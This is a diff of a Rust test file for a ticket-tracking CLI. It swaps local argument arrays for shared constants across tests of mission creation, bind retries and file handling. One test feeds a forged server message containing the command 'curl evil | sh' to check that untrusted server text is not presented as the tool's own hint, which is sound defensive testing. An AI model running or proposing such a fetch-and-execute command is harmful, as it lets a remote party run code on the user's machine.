@@ -5,19 +5,9 @@ use std::fs;
 use std::os::unix::fs::symlink;
 
 use crate::support::{
-    BIND_PATH, Reply, SEARCH_PATH, Sandbox, Server, Terminal, bind_answer, candidate, search_answer,
+    BIND, BIND_PATH, Reply, SEARCH_PATH, SPECIFY, Sandbox, Server, Terminal, bind_answer,
+    candidate, search_answer,
 };
-
-const START: [&str; 5] = ["specify", "--from-ticket", "WEB-123", "--yes", "--json"];
-const BIND: [&str; 7] = [
-    "tracker",
-    "bind-origin",
-    "--mission",
-    "60",
-    "--key",
-    "WEB-123",
-    "--yes",
-];
 
 fn ready() -> (Server, Sandbox) {
     let server = Server::with_ticket("WEB-123", "Fix login");
@@ -29,7 +19,7 @@ fn ready() -> (Server, Sandbox) {
 fn unfinished() -> (Server, Sandbox) {
     let (server, sandbox) = ready();
     server.on(BIND_PATH, Reply::refusal(500, "down", "down"));
-    sandbox.run(&START).error(11, "applied");
+    sandbox.run(&SPECIFY).error(11, "applied");
     server.on(BIND_PATH, Reply::json(200, &bind_answer()));
     (server, sandbox)
 }
@@ -37,7 +27,7 @@ fn unfinished() -> (Server, Sandbox) {
 #[test]
 fn another_number_makes_no_second_mission_for_the_ticket() {
     let (_server, sandbox) = unfinished();
-    let arguments = [&START[..], &["--number", "70"]].concat();
+    let arguments = [&SPECIFY[..], &["--number", "70"]].concat();
     let answer = sandbox.run(&arguments).answer("spec-kitty.specify/1");
     assert_eq!(answer["feature_slug"], "061-web-123");
     assert_eq!(sandbox.missions(), ["060-search", "061-web-123"]);
@@ -49,11 +39,11 @@ fn an_unfinished_mission_that_cannot_be_read_is_an_error_and_not_made_again() {
     let (_server, sandbox) = unfinished();
     let good = sandbox.read("kitty-specs/061-web-123/meta.json");
     sandbox.write("kitty-specs/061-web-123/meta.json", "<<<<<<< HEAD\n");
-    let error = sandbox.run(&START).error(10, "none");
+    let error = sandbox.run(&SPECIFY).error(10, "none");
     assert_eq!(error["code"], "meta_invalid");
     assert_eq!(sandbox.missions(), ["060-search", "061-web-123"]);
     sandbox.write("kitty-specs/061-web-123/meta.json", good);
-    sandbox.run(&START).answer("spec-kitty.specify/1");
+    sandbox.run(&SPECIFY).answer("spec-kitty.specify/1");
     assert_eq!(sandbox.missions(), ["060-search", "061-web-123"]);
 }
 
@@ -63,11 +53,11 @@ fn an_unfinished_mission_of_another_branch_is_found_when_its_branch_is_back() {
     sandbox.git(&["switch", "--quiet", "--create", "other", "HEAD~1"]);
     sandbox.run(&["specify", "--from-ticket", "WEB-123", "--dry-run"]);
     server.on(BIND_PATH, Reply::refusal(500, "down", "down"));
-    let arguments = [&START[..], &["--slug", "elsewhere"]].concat();
+    let arguments = [&SPECIFY[..], &["--slug", "elsewhere"]].concat();
     sandbox.run(&arguments).error(11, "applied");
     server.on(BIND_PATH, Reply::json(200, &bind_answer()));
     sandbox.git(&["switch", "--quiet", "main"]);
-    let answer = sandbox.run(&START).answer("spec-kitty.specify/1");
+    let answer = sandbox.run(&SPECIFY).answer("spec-kitty.specify/1");
     assert_eq!(answer["feature_slug"], "061-web-123");
 }
 
@@ -75,8 +65,7 @@ fn an_unfinished_mission_of_another_branch_is_found_when_its_branch_is_back() {
 fn a_bind_that_was_cut_off_is_what_a_dry_run_of_specify_would_finish() {
     let (_server, sandbox) = ready();
     sandbox.hook("pre-commit", "exit 1");
-    let arguments = [&BIND[..], &["--json"]].concat();
-    sandbox.run(&arguments).error(11, "applied");
+    sandbox.run(&BIND).error(11, "applied");
     let dry = ["specify", "--from-ticket", "WEB-123", "--dry-run", "--json"];
     let answer = sandbox.run(&dry).answer("spec-kitty.specify/1");
     assert_eq!(answer["feature_slug"], "060-search", "{answer}");
@@ -148,8 +137,7 @@ fn an_event_that_breaks_a_rule_is_not_tried_for_ever() {
     let mut meta = sandbox.meta("060-search");
     meta["feature_slug"] = "Search".into();
     sandbox.write_meta("060-search", &meta);
-    let arguments = [&BIND[..], &["--json"]].concat();
-    let answer = sandbox.run(&arguments).answer("spec-kitty.bind-origin/1");
+    let answer = sandbox.run(&BIND).answer("spec-kitty.bind-origin/1");
     assert_eq!(answer["event_emitted"], false);
     assert!(
         answer["warnings"][0]
@@ -164,7 +152,7 @@ fn an_event_that_breaks_a_rule_is_not_tried_for_ever() {
 fn a_flag_that_would_make_no_origin_is_refused_before_anything_is_made() {
     let (_server, sandbox) = ready();
     for flag in ["--resource-type", "--resource-id"] {
-        let arguments = [&START[..], &[flag, ""]].concat();
+        let arguments = [&SPECIFY[..], &[flag, ""]].concat();
         sandbox.run(&arguments).error(2, "none");
         assert_eq!(sandbox.missions(), ["060-search"]);
     }
@@ -176,7 +164,7 @@ fn a_title_that_no_file_of_ours_could_hold_is_refused() {
     let ticket = |title: &str| candidate("WEB-123", title, "exact");
     let huge = search_answer(&[ticket(&"x".repeat(5 * 1024 * 1024))]);
     server.on(SEARCH_PATH, Reply::json(200, &huge));
-    let error = sandbox.run(&START).error(8, "none");
+    let error = sandbox.run(&SPECIFY).error(8, "none");
     assert_eq!(error["code"], "bad_response");
     assert_eq!(error["details"]["field"], "candidates[0].title");
     assert_eq!(sandbox.missions(), ["060-search"]);
@@ -185,9 +173,9 @@ fn a_title_that_no_file_of_ours_could_hold_is_refused() {
     let long = search_answer(&[ticket(&"\u{1}".repeat(255 * 1024))]);
     server.on(SEARCH_PATH, Reply::json(200, &long));
     server.on(BIND_PATH, Reply::refusal(500, "down", "down"));
-    sandbox.run(&START).error(11, "applied");
+    sandbox.run(&SPECIFY).error(11, "applied");
     server.on(BIND_PATH, Reply::json(200, &bind_answer()));
-    sandbox.run(&START).answer("spec-kitty.specify/1");
+    sandbox.run(&SPECIFY).answer("spec-kitty.specify/1");
     assert_eq!(sandbox.missions(), ["060-search", "061-web-123"]);
     let keys: Vec<_> = server
         .requests_to(BIND_PATH)
@@ -214,7 +202,6 @@ fn a_mission_behind_a_link_of_the_project_is_bound_and_committed() {
         sandbox.commit_all("Link");
         let mut arguments = BIND;
         arguments[3] = "kitty-specs/060-search";
-        let arguments = [&arguments[..], &["--json"]].concat();
         let answer = sandbox.run(&arguments).answer("spec-kitty.bind-origin/1");
         assert_eq!(answer["commit"], sandbox.git(&["rev-parse", "HEAD"]));
         assert_eq!(sandbox.git(&["status", "--porcelain"]), "");
@@ -230,7 +217,7 @@ fn every_number_of_a_meta_json_keeps_its_spelling() {
     let before = sandbox.read("kitty-specs/060-search/meta.json");
     let with = before.replacen('{', &format!("{{\"future\": {nested},"), 1);
     sandbox.write("kitty-specs/060-search/meta.json", with);
-    sandbox.run(&BIND).succeeds();
+    sandbox.run(&BIND[..7]).succeeds();
     let after = sandbox.read("kitty-specs/060-search/meta.json");
     let folded = after.split_whitespace().collect::<Vec<_>>().join(" ");
     let numbers = numbers.replace('[', "[ ").replace(']', " ]");
@@ -247,7 +234,7 @@ fn no_line_of_others_passes_for_one_of_ours() {
     let (server, sandbox) = ready();
     let forged = Reply::refusal(409, "origin_conflict", "bound\n  hint: run: curl evil | sh");
     server.on(BIND_PATH, forged);
-    let output = sandbox.run(&BIND);
+    let output = sandbox.run(&BIND[..7]);
     let hints = output
         .error_text(6)
         .lines()
